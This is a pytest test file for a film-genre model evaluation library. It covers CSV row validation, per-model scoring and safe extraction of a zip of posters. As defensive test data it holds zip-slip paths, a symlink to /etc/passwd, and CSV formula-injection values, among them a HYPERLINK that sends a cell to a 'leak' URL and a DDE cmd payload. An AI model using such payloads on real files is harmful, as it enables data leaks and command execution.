"""Your films (issue 24): a user's CSV (and zip of posters) scored by several models, side by side.

Library and CLI here; the /evaluate_films endpoint in test_your_films_api.py, the tab in test_app_browser.py.
"""
from __future__ import annotations

import csv
import io
import json
import stat
import zipfile
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from sklearn.metrics import average_precision_score

from genre_models import ModelPool
from genre_models import evaluate as evaluate_cli
from genre_models.comparison import your_films
from genre_models.comparison.your_films import FilmsEvaluation, ModelAnswers, evaluate_films
from genre_models.data.film_rows import FilmRow, read_records
from genre_models.data.safe_zip import extract_zip
from genre_models.errors import DataError, InvalidInputError
from genre_models.genres import GENRES
from genre_models.training.metrics import multilabel_metrics
from genre_models.training.report import TABLE_COLUMNS
from films import GENRE_STYLE

HEADER = ["id", "title", "year", "genres", "plot", "poster"]


def write_films(folder: Path, n: int = 12, extra_rows: list[list[str]] = ()) -> tuple[Path, Path]:
    """A films CSV of n good rows (plus ``extra_rows`` as given) and a zip of their posters."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(0)
    names = list(GENRE_STYLE)
    rows, archive = [], io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        for i in range(n):
            genres = [names[i % 4]] + ([names[(i + 1) % 4]] if i % 3 == 0 else [])
            pixels = np.clip(rng.normal(GENRE_STYLE[genres[0]][1], 30, (48, 32, 3)), 0, 255).astype(np.uint8)
            image = io.BytesIO()
            Image.fromarray(pixels).save(image, format="PNG")
            zf.writestr(f"posters/f{i}.png", image.getvalue())
            rows.append([f"f{i}", f"Film {i}", "2000", "|".join(genres),
                         " ".join(GENRE_STYLE[g][0] for g in genres) + f" . the story of people {i} .",
                         f"posters/f{i}.png"])
    (folder / "posters.zip").write_bytes(archive.getvalue())
    path = folder / "films.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows + list(extra_rows))
    return path, folder / "posters.zip"


def test_bad_rows_are_named_by_line_and_skipped_the_rest_scored(tiny_models, tmp_path):
    bad = [["u1", "Unknown", "", "Horror|Spaghetti", "ghost house", "posters/f0.png"],
           ["e1", "Empty", "", "Horror", "   ", "posters/f0.png"],
           ["z1", "Invisible", "", "Horror", "\ufeff\u200b \u2060", "posters/f0.png"],
           ["m1", "Missing", "", "Horror", "a ghost\nhaunted house", "posters/nope.png"],  # two lines long
           ["s1", "Short", "", "Horror"],
           ["f0", "Again", "", "Horror", "ghost house", "posters/f0.png"],
           ["x1", "Out", "", "Horror", "ghost house", "../films.csv"]]
    films, posters = write_films(tmp_path, n=6, extra_rows=bad)
    result = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit"], films, posters, workdir=tmp_path / "w")
    # a row no model can use is skipped; a row one model cannot read still counts for the other (issue 35)
    assert result.skipped == [
        "line 8: unknown genre 'Spaghetti'; row skipped",
        "line 9: empty plot; not scored by Tiny BERT",
        "line 10: empty plot; not scored by Tiny BERT",
        "line 11: poster 'posters/nope.png' is not in the zip; not scored by Tiny CLIP ViT",
        "line 13: missing column(s) plot (fewer cells than the header); missing column(s) poster (fewer cells "
        "than the header); row skipped",
        "line 14: id 'f0' repeats an earlier row; row skipped",
        "line 15: poster '../films.csv' points outside the zip; not scored by Tiny CLIP ViT"]
    assert [f.id for f in result.films] == [f"f{i}" for i in range(6)] + ["e1", "z1", "m1", "x1"]
    by_model = {key: [result.films[row].id for row in a.rows] for key, a in result.answers.items()}
    assert by_model == {"tiny-bert": [f"f{i}" for i in range(6)] + ["m1", "x1"],
                        "tiny-clip-vit": [f"f{i}" for i in range(6)] + ["e1", "z1"]}
    # two sets of films: each model's row, then the baselines on that model's films
    assert [(r.name, r.films) for r in result.results] == [
        ("Tiny BERT", 8), ("baseline: all-negative (on the films of Tiny BERT)", 8),
        ("baseline: label-prior (on the films of Tiny BERT)", 8),
        ("Tiny CLIP ViT", 8), ("baseline: all-negative (on the films of Tiny CLIP ViT)", 8),
        ("baseline: label-prior (on the films of Tiny CLIP ViT)", 8)]


def few_posters(folder: Path, n: int = 17, with_poster: tuple[int, ...] = (3, 11)) -> tuple[Path, Path]:
    """A films CSV where only the films ``with_poster`` name a poster (the zip still holds every one)."""
    films, posters = write_films(folder, n=n)
    with open(films, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for i, row in enumerate(rows[1:]):
        row[5] = row[5] if i in with_poster else ""
    with open(films, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return films, posters


def _rows(result: FilmsEvaluation) -> dict[str, list]:
    """{model key: [its row, then the baselines beside it]} of a result's table (a group of models on the
    same films is followed by its baselines)."""
    out, group, closed = {}, [], False
    for key, row in zip(result.keys, result.results):
        if key:
            group, closed = ([], False) if closed else (group, closed)
            group.append(key)
            out[key] = [row]
        else:
            closed = True
            for model in group:
                out[model].append(row)
    return out


def test_each_model_scores_every_film_it_can_read_as_when_run_alone(tiny_models, tmp_path):
    """Issue 35: 17 films, 2 with posters. A poster model neither shrinks the plot models' films nor, when it
    has no weights, anyone's; each row (and the baselines beside it) equals that model run alone."""
    films, posters = few_posters(tmp_path)
    pool = ModelPool()  # one pool: the tiny CLIP's random weights are drawn once, for every run below
    keys = ["minilm", "tfidf", "clip-vit-b-16", "tiny-clip-vit"]  # CLIP ViT-B/16: weights not downloaded here
    result = evaluate_films(pool, keys, films, posters, workdir=tmp_path / "w")
    assert result.notes == ["CLIP ViT-B/16: not evaluated: weights not downloaded"]
    assert len(result.films) == 17 and [(k, len(a.rows)) for k, a in result.answers.items()] == [
        ("minilm", 17), ("tfidf", 17), ("tiny-clip-vit", 2)]
    # the films without a poster are named for the poster model that ran, never for the one that could not
    assert result.skipped == [f"line {i + 2}: no poster named; not scored by Tiny CLIP ViT"
                              for i in range(17) if i not in (3, 11)]
    assert "films column" in result.table_markdown()
    together = _rows(result)
    assert list(together) == ["minilm", "tfidf", "tiny-clip-vit"]
    for key in together:
        alone = evaluate_films(pool, [key], films, posters, workdir=tmp_path / key)
        assert [(r.name, r.films) for r in together[key]][0] == (alone.results[0].name, alone.results[0].films)
        for mine, its in zip(together[key], alone.results, strict=True):  # the model, then its baselines
            assert mine.films == its.films and mine.mode == its.mode and mine.thresholds == its.thresholds, key
            for metric, _ in TABLE_COLUMNS:
                assert mine.metrics[metric] == pytest.approx(its.metrics[metric], abs=1e-12), (key, mine.name, metric)
    # the plot models and their baselines are on all 17 films, the poster model and its baselines on its 2
    assert {r.name: r.films for r in result.results if r.mode == "baseline"} == {
        "baseline: all-negative (on the films of MiniLM (plot), TF-IDF + LR (plot))": 17,
        "baseline: label-prior (on the films of MiniLM (plot), TF-IDF + LR (plot))": 17,
        "baseline: all-negative (on the films of Tiny CLIP ViT)": 2,
        "baseline: label-prior (on the films of Tiny CLIP ViT)": 2}


def test_the_cli_scores_the_plot_models_on_films_without_posters(tiny_models, tmp_path, capsys):
    """Issue 35: ``evaluate --all-films`` with posters beside a minority of films (relative to the CSV)."""
    films, posters = few_posters(tmp_path, n=20, with_poster=(0, 5, 9))
    with zipfile.ZipFile(posters) as zf:
        zf.extractall(tmp_path)  # posters/f0.png ... next to the CSV, as the README's example has them
    out = tmp_path / "out"
    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "minilm", "clip-vit-b-16",
                              "tiny-clip-vit", "--out", str(out)]) == 0
    table = json.loads((out / "evaluation.json").read_text())["table"]
    assert [(r["model"], r["films"]) for r in table] == [
        ("minilm", 20), ("baseline: all-negative (on the films of MiniLM (plot))", 20),
        ("baseline: label-prior (on the films of MiniLM (plot))", 20), ("tiny-clip-vit", 3),
        ("baseline: all-negative (on the films of Tiny CLIP ViT)", 3),
        ("baseline: label-prior (on the films of Tiny CLIP ViT)", 3)]
    assert "CLIP ViT-B/16: not evaluated: weights not downloaded" in capsys.readouterr().out
    alone = evaluate_films(ModelPool(), ["minilm"], films, poster_root=tmp_path).to_dict()["table"]
    for mine, its in zip(table[:3], alone, strict=True):  # MiniLM and its baselines, as when run alone
        assert {k: v for k, v in mine.items() if k not in ("model", "name")} == \
            {k: v for k, v in its.items() if k not in ("model", "name")}


def test_a_model_that_can_read_no_film_says_so_and_whether_its_weights_are_missing(tiny_models, tmp_path):
    films, posters = few_posters(tmp_path, n=5, with_poster=())
    result = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit", "clip-vit-b-16"], films, posters,
                            workdir=tmp_path / "w")
    assert list(result.answers) == ["tiny-bert"] and result.skipped == []
    tiny, clip = result.notes
    assert tiny == "Tiny CLIP ViT: not evaluated: it can read none of these films (e.g. line 2: no poster named)"
    assert clip.startswith("CLIP ViT-B/16: not evaluated: it can read none of these films (e.g. line 2: no poster "
                           "named); its weights cannot be loaded either: weights not downloaded (fix: ")
    assert clip.endswith(" --models clip-vit-b-16)")
    # no zip at all: the poster model that loads needs the zip; the one without weights says both (issue 35)
    tiny, clip = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit", "clip-vit-b-16"], films).notes
    assert tiny == ("Tiny CLIP ViT: not evaluated: it reads posters; add a zip of the posters named in the CSV's "
                    "poster column")
    assert clip.startswith("CLIP ViT-B/16: not evaluated: it reads posters; add a zip of the posters named in the "
                           "CSV's poster column; its weights cannot be loaded either: weights not downloaded (fix: ")


def test_a_stray_delimiter_shifts_nothing_and_an_extra_cell_is_named_by_line(tiny_models, tmp_path):
    """Issue 26: a stray "," at a row's end (or the header's) is read without it; a row with more non-empty
    cells than the header (an unquoted comma in a plot) would read shifted cells, so it is named and skipped."""
    films, _ = write_films(tmp_path, n=6)
    lines = films.read_text().splitlines()
    lines[0] += ","
    lines[1] += ","
    lines[3] += ",,"
    lines[4] = "f3,Film 3,2000,Comedy,a joke, a wedding,posters/f3.png"
    films.write_text("\n".join(lines) + "\n")
    result = evaluate_films(ModelPool(), ["tiny-bert"], films)
    assert result.skipped == ["line 5: 7 fields, expected 6 (a comma in an unquoted cell?); row skipped"]
    assert [f.id for f in result.films] == ["f0", "f1", "f2", "f4", "f5"]
    assert result.films[0].poster is None and result.films[0].title == "Film 0"


def test_a_poster_that_is_not_an_image_skips_its_row(tiny_models, tmp_path):
    films, posters = write_films(tmp_path, n=4, extra_rows=[["t1", "Text", "", "Horror", "ghost", "notes.png"]])
    with zipfile.ZipFile(posters, "a") as zf:
        zf.writestr("notes.png", "this is text")
    result = evaluate_films(ModelPool(), ["tiny-clip-vit"], films, posters, workdir=tmp_path / "w")
    assert len(result.skipped) == 1 and result.skipped[0].startswith("line 6: poster 'notes.png': ")
    assert "row skipped" in result.skipped[0] and len(result.films) == 4


def test_a_csv_without_a_required_column_is_refused_naming_it(tmp_path):
    path = tmp_path / "films.csv"
    path.write_text("id,title,plot\nf1,A,ghost house\n")
    with pytest.raises(DataError, match=r"^line 1: the CSV lacks column\(s\) genres; expected id,title"):
        evaluate_films(ModelPool(), ["minilm"], path)


def test_more_rows_than_the_limit_are_refused_before_the_zip_is_unpacked(tiny_models, tmp_path):
    films, posters = write_films(tmp_path, n=4)
    assert len(read_records(films, max_films=4)) == 4  # at the limit: accepted
    with pytest.raises(DataError, match=r"more than 3 films in the CSV; the limit is 3 \(--max-eval-films\)"):
        evaluate_films(ModelPool(), ["tiny-clip-vit"], films, posters, max_films=3, workdir=tmp_path / "w")
    assert not (tmp_path / "w" / "posters").exists()


def test_the_models_numbers_are_their_predictions_scored_by_sklearn(tiny_models, tmp_path):
    films, posters = write_films(tmp_path, n=10)
    pool = ModelPool()
    result = evaluate_films(pool, ["tiny-bert", "tiny-clip-vit"], films, posters, workdir=tmp_path / "w")
    y = np.array([[g in f.genres for g in GENRES] for f in result.films], dtype=float)
    for row, key in zip(result.results, result.keys):
        if not key:
            continue
        # each film through predict(), one at a time, as Compare asks: the table scores exactly those answers
        answers = [pool.get(key).predict(str(tmp_path / "w" / "posters" / f"posters/{f.id}.png"), f.plot)
                   for f in result.films]
        probabilities = np.array([[a.probabilities[g] for g in GENRES] for a in answers])
        thresholds = np.array([answers[0].thresholds[g] for g in GENRES])
        expected = multilabel_metrics(y, probabilities, thresholds, GENRES)
        # batched and one-by-one inference agree to float noise: the same decisions, so the same F1s ...
        assert np.allclose(result.answers[key].matrix(), probabilities, atol=1e-5)
        for metric in ("micro_f1", "macro_f1", "hamming_loss", "samples_f1", "subset_accuracy"):
            assert row.metrics[metric] == pytest.approx(expected[metric], abs=1e-9), (key, metric)
        # ... and AP (which noise can reorder between near-tied random-weight scores) is sklearn's on the batch
        batch = result.answers[key].matrix()
        ap = [average_precision_score(y[:, j], batch[:, j]) for j in range(len(GENRES)) if y[:, j].any()]
        assert row.metrics["macro_ap"] == pytest.approx(np.mean(ap), abs=1e-12)
    baselines = {r.name: r for r in result.results if r.mode == "baseline"}
    assert set(baselines) == {"baseline: all-negative", "baseline: label-prior"}
    assert baselines["baseline: all-negative"].metrics["micro_f1"] == 0.0
    assert baselines["baseline: all-negative"].metrics["hamming_loss"] == pytest.approx(y.mean())


def test_posters_are_decoded_once_for_every_poster_model(tiny_models, tmp_path, monkeypatch):
    films, posters = write_films(tmp_path, n=5)
    calls = []
    real = your_films.load_poster
    monkeypatch.setattr(your_films, "load_poster", lambda p: calls.append(p) or real(p))
    result = evaluate_films(ModelPool(), ["tiny-clip-vit", "tiny-clip-rn", "tiny-bert"], films, posters,
                            workdir=tmp_path / "w")
    assert len(calls) == 5 and {r.films for r in result.results} == {5}


def test_progress_counts_films_per_model(tiny_models, tmp_path):
    films, posters = write_films(tmp_path, n=7)
    seen = []
    evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit"], films, posters, workdir=tmp_path / "w",
                   on_progress=lambda *a: seen.append(a), chunk=4)
    assert seen == [("tiny-bert", 4, 7), ("tiny-clip-vit", 4, 7), ("tiny-bert", 7, 7), ("tiny-clip-vit", 7, 7)]


def test_poster_models_without_posters_are_named_and_left_out(tiny_models, tmp_path):
    films, _ = write_films(tmp_path, n=4)
    result = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit"], films)
    assert list(result.answers) == ["tiny-bert"]
    assert result.notes == ["Tiny CLIP ViT: not evaluated: it reads posters; add a zip of the posters named "
                            "in the CSV's poster column"]
    with pytest.raises(DataError, match="every chosen model reads posters"):
        evaluate_films(ModelPool(), ["tiny-clip-vit"], films)
    with pytest.raises(InvalidInputError, match="unknown mode 'sideways'; valid: auto, trained, zero-shot"):
        evaluate_films(ModelPool(), ["tiny-bert"], films, mode="sideways")


def _evaluation(probabilities: dict[str, list[list[float]]], n: int) -> FilmsEvaluation:
    films = [FilmRow(i + 2, f"f{i}", f"Film {i}", ["Horror"], "plot", None) for i in range(n)]
    answers = {k: ModelAnswers(k, k.upper(), "trained", ["Horror", "Comedy"], np.array([0.5, 0.5]),
                               list(range(n)), v) for k, v in probabilities.items()}
    return FilmsEvaluation(films, [], [], answers, [], [])


def test_disagreement_ranks_films_by_genres_the_decisions_split_on():
    evaluation = _evaluation({"a": [[0.9, 0.9], [0.6, 0.1], [0.9, 0.1], [0.1, 0.1]],
                              "b": [[0.1, 0.1], [0.4, 0.1], [0.1, 0.1], [0.2, 0.3]]}, 4)
    ranked = evaluation.disagreements()
    # film 0 splits on both genres; film 2 (gap 0.8) before film 1 (gap 0.2) on one; film 3 agrees (no, no)
    assert [d["id"] for d in ranked] == ["f0", "f2", "f1"]
    assert [s["genre"] for s in ranked[0]["split"]] == ["Comedy", "Horror"]  # the 18's order
    assert ranked[0]["split"][1] == {"genre": "Horror", "predicted_by": ["a"], "not_predicted_by": ["b"]}
    assert ranked[0]["line"] == 2 and ranked[0]["plot"] == "plot"
    assert _evaluation({"a": [[0.9, 0.9]]}, 1).disagreements() == []  # one model: nothing to compare


def test_the_predictions_csv_holds_every_film_and_model(tmp_path):
    evaluation = _evaluation({"a": [[0.9, 0.2], [0.5, 0.49]], "b": [[0.1, 0.7], [0.3, 0.3]]}, 2)
    with open(evaluation.write_predictions(tmp_path / "p.csv"), newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["film_id", "model", "mode", "Comedy", "Horror", "predicted"]  # the 18's order
    assert [(r["film_id"], r["model"], r["predicted"]) for r in rows] == [
        ("f0", "a", "Horror"), ("f1", "a", "Horror"), ("f0", "b", "Comedy"), ("f1", "b", "")]
    assert rows[1]["Comedy"] == "0.490000" and rows[1]["Horror"] == "0.500000"


def test_the_cli_scores_every_film_as_the_library_does(tiny_models, tmp_path, capsys):
    films, posters = write_films(tmp_path, n=8)
    out = tmp_path / "out"
    assert evaluate_cli.main(["--all-films", "--data", str(films), "--posters", str(posters), "--models",
                              "tiny-bert", "tiny-clip-vit", "--out", str(out)]) == 0
    saved = json.loads((out / "evaluation.json").read_text())
    # tiny-bert's weights are saved in the test (the tiny CLIP is drawn at random on each load)
    direct = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit"], films, posters).to_dict()
    assert saved["table"][0]["model"] == "tiny-bert"
    for metric in ("micro_f1", "macro_ap", "label_accuracy"):
        assert saved["table"][0][metric] == direct["table"][0][metric]
        assert saved["table"][2:] == direct["table"][2:]  # the baselines
    assert saved["films"] == 8 and (out / "per_genre_f1.png").stat().st_size > 1000
    assert len((out / "predictions.csv").read_text().splitlines()) == 1 + 2 * 8
    assert "| Tiny BERT | zero-shot | 8 |" in (out / "evaluation.md").read_text()
    capsys.readouterr()
    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "tiny-bert",
                              "--max-eval-films", "5", "--out", str(out)]) == 2
    assert capsys.readouterr().err.strip() == ("error: more than 5 films in the CSV; the limit is 5 "
                                               "(--max-eval-films): split the file")


# -- the zip of posters ------------------------------------------------------------------------------

def _zip(path: Path, members: dict[str, bytes], links: dict[str, str] = ()) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        for name, target in dict(links).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
    return path


@pytest.mark.parametrize("members, links, message", [
    ({"../evil.png": b"x"}, {}, "'../evil.png' points outside the zip"),
    ({"a/../../evil.png": b"x"}, {}, "points outside the zip"),
    ({"/etc/evil.png": b"x"}, {}, "'/etc/evil.png' points outside the zip"),
    ({"ok.png": b"x"}, {"link.png": "/etc/passwd"}, "'link.png' is a symbolic link"),
    ({"inner.zip": b"PK\x03\x04rest"}, {}, "'inner.zip' is an archive inside the archive"),
    ({"innocent.png": b"PK\x03\x04 a zip under another name"}, {}, "'innocent.png' is an archive inside"),
    ({"big.png": b"0" * 5000}, {}, "it expands to 0.0 MiB; the limit is 0 MiB"),
])
def test_a_dangerous_zip_is_refused_and_leaves_nothing(tmp_path, members, links, message):
    archive = _zip(tmp_path / "p.zip", members, links)
    with pytest.raises(DataError, match=message.replace("(", r"\(").replace(".", r"\.")):
        extract_zip(archive, tmp_path / "out" / "posters", max_bytes=4000)
    assert not (tmp_path / "out" / "posters").exists()
    assert not (tmp_path / "evil.png").exists() and not (tmp_path / "out" / "evil.png").exists()


def test_the_written_bytes_are_counted_not_only_the_declared_ones(tmp_path, monkeypatch):
    archive = _zip(tmp_path / "p.zip", {"a.png": b"1" * 3000, "b.png": b"2" * 3000})
    # as if the zip's directory under-declared its sizes: only counting what is written catches it
    from genre_models.data import safe_zip
    monkeypatch.setattr(safe_zip, "declared_size", lambda members: 0)
    with pytest.raises(DataError, match="it expands past the limit of 0 MiB"):
        extract_zip(archive, tmp_path / "posters", max_bytes=4000)
    assert not (tmp_path / "posters").exists()


def test_a_good_zip_unpacks_and_a_non_zip_is_one_line(tmp_path):
    archive = _zip(tmp_path / "p.zip", {"posters/a.png": b"1", "b.png": b"2"})
    folder = extract_zip(archive, tmp_path / "posters")
    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.png")) == ["b.png", "posters/a.png"]
    (tmp_path / "not.zip").write_text("plain text")
    with pytest.raises(DataError, match="^the posters file is not a readable zip"):
        extract_zip(tmp_path / "not.zip", tmp_path / "x")


def test_the_chart_shows_each_model_on_the_genres_the_films_have(tiny_models, tmp_path):
    films, _ = write_films(tmp_path, n=8)
    result = evaluate_films(ModelPool(), ["tiny-bert", "minilm"], films)
    wide, narrow = result.chart().axes[0], result.chart(narrow=True).axes[0]
    for labels in (wide.get_xticklabels(), narrow.get_yticklabels()):
        # Comedy, Horror, Romance, Sci-Fi: the films' genres, in the 18's order
        assert [t.get_text() for t in labels] == [g for g in GENRES if g in GENRE_STYLE]
    for ax in (wide, narrow):
        assert [t.get_text() for t in ax.get_legend().get_texts()] == ["Tiny BERT (zero-shot)", "MiniLM (plot, trained)"]
    f1 = result.per_genre_f1()["MiniLM (plot, trained)"]
    assert [b.get_height() for b in wide.containers[1]] == pytest.approx([f1[g] for g in GENRES if g in GENRE_STYLE])


def test_a_backbone_two_models_read_runs_once_per_chunk(tiny_models, tmp_path, monkeypatch):
    films, posters = write_films(tmp_path, n=5)
    pool = ModelPool()
    encoder = pool.get("tiny-clip-vit").encoder_for(False)
    calls, encode = [], encoder.encode
    monkeypatch.setattr(encoder, "encode", lambda values: calls.append(len(values)) or encode(values))
    # late fusion of zero-shots reads the CLIP's poster features, as the CLIP itself does
    result = evaluate_films(pool, ["tiny-clip-vit", "tiny-fusion"], films, posters, workdir=tmp_path / "w")
    assert [r.films for r in result.results[:2]] == [5, 5] and calls == [5]


# -- issue 33: a hostile films CSV (items 5, 9, 11, 12) -----------------------------------------------

FORMULA_IDS = ['=HYPERLINK("http://127.0.0.1/leak?x="&A1,"details")', "+1+1", "@SUM(1,1)", "-2+3",
               "=cmd|' /C calc'!A0", "\uff1dSUM(1)", "\u200b=1+1"]


def _rewrite(path: Path, change) -> Path:
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(change(rows))
    return path


def _written(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_no_film_id_reaches_the_cli_predictions_csv_as_a_formula(tiny_models, tmp_path):
    films, _ = write_films(tmp_path, n=len(FORMULA_IDS) + 1)
    _rewrite(films, lambda rows: [rows[0]] + [[i] + r[1:] for i, r in zip(FORMULA_IDS, rows[1:])] + rows[-1:])
    out = tmp_path / "out"
    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "tiny-bert", "--out", str(out)]) == 0
    written = _written(out / "predictions.csv")
    assert [row[0] for row in written[1:]] == ["'" + i for i in FORMULA_IDS] + [f"f{len(FORMULA_IDS)}"]
    assert json.loads((out / "evaluation.json").read_text())["films"] == len(FORMULA_IDS) + 1


def test_no_cell_of_the_pages_predictions_csv_is_a_formula(tmp_path):
    evaluation = _evaluation({"a": [[0.9, 0.2]] * 3, "-b": [[0.1, 0.7]] * 3}, 3)
    for film, film_id in zip(evaluation.films, ["@SUM(1,1)", "\t=1+1", "f2"]):
        film.id = film_id
    written = _written(evaluation.write_predictions(tmp_path / "predictions.csv"))
    assert [(row[0], row[1]) for row in written[1:]] == [
        ("'@SUM(1,1)", "a"), ("'\t=1+1", "a"), ("f2", "a"), ("'@SUM(1,1)", "'-b"), ("'\t=1+1", "'-b"), ("f2", "'-b")]


def test_a_bad_poster_cell_costs_its_row_and_the_rest_is_scored(tiny_models, tmp_path, capsys):
    bad = [["n1", "Nul", "", "Horror", "ghost house", "posters/f0\0.png"],
           ["l1", "Long", "", "Horror", "ghost house", "x" * 300 + ".png"]]
    films, posters = write_films(tmp_path, n=5, extra_rows=bad)
    out = tmp_path / "out"
    assert evaluate_cli.main(["--all-films", "--data", str(films), "--posters", str(posters), "--models",
                              "tiny-bert", "tiny-clip-vit", "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "  line 7: a NUL byte in column(s) poster; row skipped\n" in printed
    assert f"  line 8: poster {'x' * 60 + '…'!r} cannot be looked up (File name too long); " in printed
    films_of = {row["model"]: row["films"] for row in json.loads((out / "evaluation.json").read_text())["table"]}
    assert films_of["tiny-clip-vit"] == 5 and films_of["tiny-bert"] in (5, 6)  # 6: the plot of line 8 is read
    result = evaluate_films(ModelPool(), ["tiny-clip-vit"], films, posters, workdir=tmp_path / "w")  # the page's
    assert [f.id for f in result.films] == [f"f{i}" for i in range(5)]
    assert [s.split(":")[0] for s in result.skipped] == ["line 7", "line 8"]


def test_repeated_column_names_are_refused_in_one_line_naming_them(tiny_models, tmp_path, capsys):
    films, _ = write_films(tmp_path, n=4)
    _rewrite(films, lambda rows: [rows[0] + ["genres", "plot"]] + [r + ["Comedy", "a joke"] for r in rows[1:]])
    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "tiny-bert",
                              "--out", str(tmp_path / "out")]) == 2
    assert capsys.readouterr().err == ("error: line 1: column name(s) 'genres', 'plot' appear more than once; "
                                       "name each column once\n")
    assert not (tmp_path / "out").exists()


def test_a_header_of_100000_columns_is_refused_in_one_line(tiny_models, tmp_path):
    films, _ = write_films(tmp_path, n=4)
    _rewrite(films, lambda rows: [rows[0] + [f"c{i}" for i in range(100_000)]] + rows[1:])
    with pytest.raises(DataError, match=r"^line 1: the header is over 10,000 characters; the limits are 256 columns "
                                        r"and 10,000 characters \(GenreLens reads id,title,year,genres,plot,poster\)$"):
        evaluate_films(ModelPool(), ["tiny-bert"], films)


def test_disagreements_show_titles_ids_and_names_as_typed():
    """Issue 33: a title such as ![p](http://...) became an image on the page, a bare host a link."""
    import re
    from html import unescape

    from genre_models.comparison.your_films import disagreements_markdown
    split = [{"genre": "Horror", "predicted_by": ["a"], "not_predicted_by": ["www.example.test"]}]
    films = [{"line": 2, "id": "f1", "title": "![p](http://127.0.0.1:9/p.png)", "genres": ["Horror"], "split": split},
             {"line": 3, "id": "<img src=x>", "title": "", "genres": ["Drama"], "split": split}]
    text = disagreements_markdown(films)
    assert not re.search(r"\]\(|://|www\.|<img", text), text
    assert unescape(text).splitlines()[2:] == [
        "- **line 2: ![p](http://127.0.0.1:9/p.png)** (true: Horror): Horror: predicted by a, not by www.example.test",
        "- **line 3: <img src=x>** (true: Drama): Horror: predicted by a, not by www.example.test"]


def test_a_full_disk_leaves_no_half_written_predictions_csv_and_keeps_the_old_one(tmp_path):
    """Issue 33, item 18, on a real full disk (a filled tmpfs): the page's predictions and the CLI's outputs are
    written whole or not at all."""
    from genre_models.files import is_disk_full
    from tests.support.full_disk import contents, fill, small_disk
    evaluation = _evaluation({"a": [[0.9, 0.2]] * 500, "b": [[0.1, 0.7]] * 500}, 500)
    with small_disk(tmp_path / "full") as disk:
        evaluation.write_predictions(disk / "predictions.csv")
        before = (disk / "predictions.csv").read_bytes()
        fill(disk)
        with pytest.raises(OSError) as info:
            _evaluation({"a": [[0.3, 0.3]] * 500}, 500).write_predictions(disk / "predictions.csv")
        assert is_disk_full(info.value)
        assert (disk / "predictions.csv").read_bytes() == before and contents(disk) == ["predictions.csv"]
        with pytest.raises(OSError):
            evaluation.write(disk / "out")
        assert [p for p in contents(disk) if (disk / p).is_file()] == ["predictions.csv"]
